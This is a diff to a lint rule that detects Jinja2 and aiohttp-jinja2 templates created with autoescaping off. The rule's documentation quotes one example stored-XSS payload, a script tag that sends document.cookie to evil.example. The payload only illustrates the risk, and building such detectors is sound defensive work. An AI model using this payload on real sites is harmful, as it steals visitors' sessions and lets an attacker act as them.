@@ -12,6 +12,8 @@ const ENVIRONMENTS = new Set([
   'jinja2.sandbox.ImmutableSandboxedEnvironment',
 ]);
 const TEMPLATES = new Set(['jinja2.Template', 'jinja2.environment.Template']);
+/** aiohttp-jinja2 builds its Environment with autoescaping on unless told otherwise. */
+const AIOHTTP_SETUP = 'aiohttp_jinja2.setup';
 
 /** An HTML or XML tag, comment or doctype in a template's text. */
 const MARKUP = /<\s*(?:[a-zA-Z][\w:-]*|\/[a-zA-Z]|!--|!doctype)/i;
@@ -32,8 +34,9 @@ export default defineRule({
     ruff: 'S701',
     fixable: true,
     fixApplicability: ['unsafe'],
+    offInTests: true,
     docs: {
-      what: 'Finds `jinja2.Environment(...)` (and the sandboxed environments) created without `autoescape` or with `autoescape=False`, and `jinja2.Template(...)` without autoescaping when its text is HTML (a literal containing tags) or not known. `autoescape=True`, `select_autoescape(...)` and an autoescape function are accepted; an Environment whose `**options` may set it is reported with low confidence. Templates whose literal text is not markup (emails in plain text, configuration files) are not reported.',
+      what: 'Finds `jinja2.Environment(...)` (and the sandboxed environments) created without `autoescape` or with `autoescape=False`, `aiohttp_jinja2.setup(..., autoescape=False)`, and `jinja2.Template(...)` without autoescaping when its text is HTML (a literal containing tags) or not known. `autoescape=True`, `select_autoescape(...)` and an autoescape function are accepted; an Environment whose `**options` may set it is reported with low confidence. Templates whose literal text is not markup (emails in plain text, configuration files) are not reported.',
       why: 'Jinja2 does not escape by default: `{{ comment }}` copies the value into the page as it is, so a comment containing `<script>fetch("https://evil.example/?c="+document.cookie)</script>` runs in every visitor\'s browser (stored cross-site scripting) and can steal sessions or act as the user. Flask turns autoescaping on for its own templates, but an `Environment` you create yourself starts with it off.',
       example: 'from jinja2 import Environment, FileSystemLoader\n\nenv = Environment(loader=FileSystemLoader("templates"))\npage = env.get_template("comment.html").render(comment=comment)',
       safe: 'from jinja2 import Environment, FileSystemLoader, select_autoescape\n\nenv = Environment(loader=FileSystemLoader("templates"), autoescape=select_autoescape())\npage = env.get_template("comment.html").render(comment=comment)',
@@ -46,11 +49,14 @@ export default defineRule({
       ],
     },
   },
-  calls: [...ENVIRONMENTS, ...TEMPLATES],
+  calls: [...ENVIRONMENTS, ...TEMPLATES, AIOHTTP_SETUP],
 
   checkCall(call, context) {
     const name = call.qualifiedName!;
+    if (name === AIOHTTP_SETUP && !call.keyword('autoescape')) return;
     const isTemplate = TEMPLATES.has(name);
+    // A Template and aiohttp-jinja2's setup take `autoescape=True`; an Environment a policy function.
+    const takesTrue = isTemplate || name === AIOHTTP_SETUP;
     let confidence: Level | undefined;
     if (isTemplate) {
       const source = call.argument(0, 'source');
@@ -61,13 +67,13 @@ export default defineRule({
     }
     const written = call.callee.text;
     const autoescape = call.keyword('autoescape');
-    const advice = isTemplate ? '`autoescape=True`' : '`autoescape=select_autoescape()`';
+    const advice = takesTrue ? '`autoescape=True`' : '`autoescape=select_autoescape()`';
     if (!autoescape) {
       if (call.hasStarKwargs) confidence = 'low';
       context.report(call.node, {
-        message: `\`${written}\` is created without \`autoescape\`, and Jinja2 does not escape by default: a value containing \`<script>\` is inserted into the HTML as it is (cross-site scripting). Pass ${advice}.`,
+        message: `\`${written}\` has no \`autoescape\`, so Jinja2 does not escape (XSS); pass ${advice}.`,
         confidence,
-        fix: call.hasStarKwargs ? undefined : (fixer) => autoescapeFix(call, isTemplate, context, fixer),
+        fix: call.hasStarKwargs ? undefined : (fixer) => autoescapeFix(call, takesTrue, context, fixer),
       });
       return;
     }
@@ -76,9 +82,9 @@ export default defineRule({
     if (literal?.value === true) return;
     if (literal?.value === false || literal?.value === null) {
       context.report(autoescape.node, {
-        message: `\`${written}(…, ${autoescape.node.text})\` turns autoescaping off: a value containing \`<script>\` is inserted into the HTML as it is (cross-site scripting). Use ${advice}, and mark the few values that really are HTML with \`|safe\` or \`Markup\`.`,
+        message: `\`${autoescape.node.text}\` turns autoescaping off, so \`<script>\` in values runs (XSS); use ${advice}.`,
         confidence,
-        fix: (fixer) => autoescapeFix(call, isTemplate, context, fixer),
+        fix: (fixer) => autoescapeFix(call, takesTrue, context, fixer),
       });
       return;
     }
@@ -90,7 +96,7 @@ export default defineRule({
     }
     if (value.type === 'identifier' && context.model.lookup(value.text, value)?.kind === 'def') return;
     context.report(autoescape.node, {
-      message: `\`${written}(…, ${autoescape.node.text})\`: autoescaping depends on \`${value.text}\`; if it is false, values are inserted into the HTML unescaped (cross-site scripting). Make sure it is true for HTML, e.g. ${advice}.`,
+      message: `Autoescaping depends on \`${value.text}\`; if it is false, values are not escaped (XSS); make sure it is true for HTML.`,
       confidence: 'low',
     });
   },
